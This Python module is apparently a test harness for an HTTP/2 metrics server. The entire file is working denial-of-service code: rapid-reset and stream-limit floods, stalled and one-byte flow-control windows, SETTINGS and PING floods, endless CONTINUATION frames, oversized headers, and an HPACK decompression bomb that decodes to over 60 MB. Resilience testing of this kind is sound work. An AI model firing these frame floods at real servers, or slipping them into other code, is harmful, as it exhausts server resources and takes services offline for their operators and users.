"""What no honest client sends. An attack sends a part of it, again and again, and returns the number of frames."""

from typing import Callable, NamedTuple

from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

BURST = 500
# The server's limit of concurrent requests of a connection, and more.
STREAMS, TOO_MANY = 100, 400
CANCEL = 8
FRAME = 16 * 1024


class Attack(NamedTuple):
    """A way of sending frames."""

    send: Callable
    # Whether the client reads what the server answers.
    reads: bool = True
    # The bytes that it takes of each response.
    window: int = 65535
    # How long it takes in comparison with others. A client may receive nothing for 30 s.
    length: int = 1
    # Whether it may hold all places of scrapes, so that those of others are refused.
    holds_scrapes: bool = False


def rapid_resets(client):
    """Requests that are taken back at once."""
    data = b""
    for _ in range(BURST):
        stream = client.new_stream()
        data += _request(client, stream) + RstStreamFrame(stream, error_code=CANCEL).serialize()
    client.send(data)
    return 2 * BURST


def too_many_streams(client):
    """More requests at once than the server allows, whose responses are never taken."""
    return _request_once(client, TOO_MANY)


def closed_windows(client):
    """Requests whose responses are never taken."""
    return _request_once(client, STREAMS)


def slow_windows(client):
    """Requests whose responses are taken byte by byte."""
    if client.stream_id < 0:
        return closed_windows(client)
    streams = range(1, client.stream_id + 1, 2)
    client.send(b"".join(WindowUpdateFrame(stream, window_increment=1).serialize() for stream in (0, *streams)))
    client.receive(0.1)
    return 1 + len(streams)


def settings(client):
    """Settings, each of which the server acknowledges."""
    client.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * BURST)
    return BURST


def pings(client):
    """Pings, each of which the server answers."""
    client.send(PingFrame(0, b"attacked").serialize() * BURST)
    return BURST


def continuations(client):
    """A head that does not end."""
    stream = client.new_stream()
    data = HeadersFrame(stream, client.head("/metrics"), flags=["END_STREAM"]).serialize()
    field = client.encoder.encode([("x", "y" * 1000)])
    client.send(data + ContinuationFrame(stream, field).serialize() * BURST)
    return 1 + BURST


def large_heads(client):
    """A head of twice the allowed size."""
    client.send(_head(client, client.head("/metrics", *((f"x-{n}", "y" * 1000) for n in range(32)))))
    return 3


def growing_heads(client):
    """A head that is small as it is sent, and more than 60 MB when it is decoded: it repeats a field by its index."""
    data = client.head("/metrics", ("x", "y" * 3900))
    # The newest field of the dynamic table.
    again = encode_integer(62, 7)
    again[0] |= 0x80
    client.send(_head(client, data + bytes(again) * FRAME))
    return 2


def _request_once(client, number):
    """Sends this number of requests at once, then nothing more."""
    if client.stream_id < 0:
        client.send(b"".join(_request(client, client.new_stream()) for _ in range(number)))
        return number
    client.receive(0.1)
    return 0


def _request(client, stream):
    return HeadersFrame(stream, client.head("/metrics"), flags=["END_HEADERS", "END_STREAM"]).serialize()


def _head(client, data):
    """A request with a head in several frames."""
    stream, parts = client.new_stream(), [data[start : start + FRAME] for start in range(0, len(data), FRAME)]
    frames = [HeadersFrame(stream, parts[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(stream, part) for part in parts[1:]]
    frames[-1].flags.add("END_HEADERS")
    return b"".join(frame.serialize() for frame in frames)


ATTACKS = {
    "rapid_resets": Attack(rapid_resets),
    "too_many_streams": Attack(too_many_streams, window=0, holds_scrapes=True),
    "closed_windows": Attack(closed_windows, window=0, length=4, holds_scrapes=True),
    "slow_windows": Attack(slow_windows, window=1, holds_scrapes=True),
    "settings": Attack(settings),
    "settings_unread": Attack(settings, reads=False),
    "pings": Attack(pings),
    "pings_unread": Attack(pings, reads=False),
    "continuations": Attack(continuations),
    "large_heads": Attack(large_heads),
    "growing_heads": Attack(growing_heads),
}
